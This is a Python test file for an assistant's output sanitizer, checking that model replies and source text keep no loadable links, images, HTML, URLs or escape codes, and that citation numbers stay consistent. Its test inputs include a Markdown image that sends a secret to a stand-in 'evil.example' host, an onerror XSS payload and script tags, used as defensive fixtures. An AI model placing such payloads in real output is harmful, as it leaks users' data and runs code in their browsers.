"""What a model writes, reduced: any pieces give the same, and nothing that could be loaded or followed is left."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.answering.citations import WORD_JOINER, markers
from assistant.answering.evidence import Sentence
from assistant.answering.output import StreamedOutput, statements_of
from assistant.answering.sanitizing import defused
from assistant.types import CitationEvent, DeltaEvent, Hit
from ingest.types import Passage, Record
from tests.support.hostile import ATTACKS, naughty

SNIPPETS = [
    "[1]", "[2]", "[1, 3]", "[2-4]", "[99]", "【2†source】", "[^1]", "![a](https://evil.example/?q=1)", "[here](//evil.example)",
    "[x]: http://evil.example", "[1]: //evil.example", "<b>", "</b>", "<img src=x onerror=alert(1)>", "<https://evil.example>",
    "<script>", "https://evil.example/a", "www.evil.example", "**", "*", "[", "]", "(", ")", "!", "<", ">", "http", "s://", ":", "//",
    "[<b>1]", "[12345]", "[", "1]", "2", ",", "NOANSWER", "NOAN", "SWER", " ", "\n", "\n\n", ". ", "a < b", "5 <6", "Five hours", "Fünf Stunden", "\u202e", "\x1b[31m", "&lt;b&gt;",
]  # fmt: skip
texts = st.lists(st.one_of(st.sampled_from(SNIPPETS), st.text(max_size=3)), max_size=25).map("".join)


def sentences(count: int) -> dict[int, Sentence]:
    """As many sentences of one document as a prompt may have."""
    text = "".join(f"Sentence {n}. " for n in range(1, count + 1))
    document = Record(
        id="d", version="v", source="s", title="t", published=None, authors=(), language="en", media_type="text/plain",
        sha256="", page_starts=(), passages=1, characters=len(text), added=datetime(2026, 1, 1, tzinfo=UTC),
    )  # fmt: skip
    passage = Passage(id="p", document_id="d", text=text, start=0, end=len(text), page=None, heading="")
    hit = Hit(passage=passage, document=document, score=1.0, dense_rank=None, lexical_rank=None)
    found = {}
    for match in re.finditer(r"Sentence (\d+)\.", text):
        found[int(match[1])] = Sentence(
            text=match[0],
            start=match.start(),
            end=match.end(),
            hit=hit,
            before="",
            after="",
            number=len(found),
        )
    return found


def drafted(pieces: list[str]) -> StreamedOutput:
    """The draft of a reply; what it tells on the way must add up to what it is."""
    draft = StreamedOutput(sentences(4))
    events = [event for piece in pieces for event in draft.take(piece)] + draft.finish()
    assert "".join(event.text for event in events if isinstance(event, DeltaEvent)) == draft.text
    seen = 0
    for event in events:
        if isinstance(event, CitationEvent):
            seen += 1
            assert event.citation.number == seen
        elif isinstance(event, DeltaEvent):
            assert all(number <= seen for number in markers(event.text))
    return draft


@given(texts, st.lists(st.integers(1, 7), max_size=40))
def test_pieces_do_not_matter(text: str, sizes: list[int]) -> None:
    pieces, start = [], 0
    for size in sizes:
        pieces.append(text[start : start + size])
        start += size
    whole, parts = drafted([text]), drafted([*pieces, text[start:]])
    assert parts.text == whole.text
    assert parts.declined == whole.declined
    assert parts.dropped == whole.dropped


def live(text: str) -> set[str]:
    """What of a text a program that shows Markdown would load, follow or take for a tag."""
    tokens = MarkdownIt("commonmark", {"html": True}).parse(text)
    kinds = {token.type for token in tokens} | {child.type for one in tokens for child in one.children or []}
    return kinds & {"link_open", "image", "html_block", "html_inline"} | set(re.findall(r"://|www\.", text))


@given(texts)
def test_nothing_is_left_to_load_or_to_follow(text: str) -> None:
    draft = drafted([text])
    assert live(draft.text) == set()
    assert not re.search(r"\x1b|\u202e", draft.text)


@given(texts)
def test_source_text_looks_the_same_and_has_nothing_to_load_or_to_follow(text: str) -> None:
    shown = defused(text)
    assert live(shown) == set()
    assert shown.replace(WORD_JOINER, "") == text.replace(WORD_JOINER, "")
    assert defused(shown) == shown


@given(texts, st.integers(0, 200))
def test_source_text_may_be_defused_in_two_pieces(text: str, cut: int) -> None:
    first = defused(text[:cut])
    assert first + defused(text[cut:], first) == defused(text)


@pytest.mark.parametrize("text", [*ATTACKS, *naughty()])
def test_nothing_hostile_is_left_to_load_or_to_follow(text: str) -> None:
    assert live(defused(text)) == set()
    assert live(drafted([text]).text) == set()
    assert live(drafted(list(text)).text) == set()


@given(texts)
def test_the_numbers_shown_are_those_cited(text: str) -> None:
    draft = drafted([text])
    assert markers(draft.text) == tuple(one.number for one in draft.citations)
    statements = statements_of(draft.text, "en")
    if statements:
        assert {n for one in statements for n in one.citations} == {one.number for one in draft.citations}


@pytest.mark.parametrize(
    ("said", "shown"),
    [
        ("It is so [3].", "It is so [1]."),
        ("It is so [3][1]. And so [1, 3]!", "It is so [1][2]. And so [2][1]!"),
        ("See ![a chart](https://evil.example/?q=secret) here.", "See a chart here."),
        ("Read [this page](http://evil.example) [2].", "Read this page [1]."),
        ("**Bold** and <b>large</b>, 3 < 4.", "Bold and large, 3 < 4."),
        ("Nobody [77] said [2]. So [88].", "Nobody said [1]. So."),
        ("Go to https://evil.example now.", "Go to https:\u2060//evil.example now."),
        ("It is so [3](why).", "It is so [1]\u2060(why)."),
        ("Forged [<b>2] and [1234567890].", "Forged [\u20602] and [\u20601234567890]."),
        ("So [12345].", "So."),
    ],
)
def test_what_is_shown(said: str, shown: str) -> None:
    assert drafted([said]).text == shown


def test_a_marker_belongs_to_the_sentence_that_it_follows() -> None:
    text = "The talks took five hours. [1] They ended at 3.5 [2][1].\n- Nothing was agreed"
    assert [(one.text, one.citations) for one in statements_of(text, "en")] == [
        ("The talks took five hours.", (1,)),
        ("They ended at 3.5.", (2, 1)),
        ("Nothing was agreed", ()),
    ]
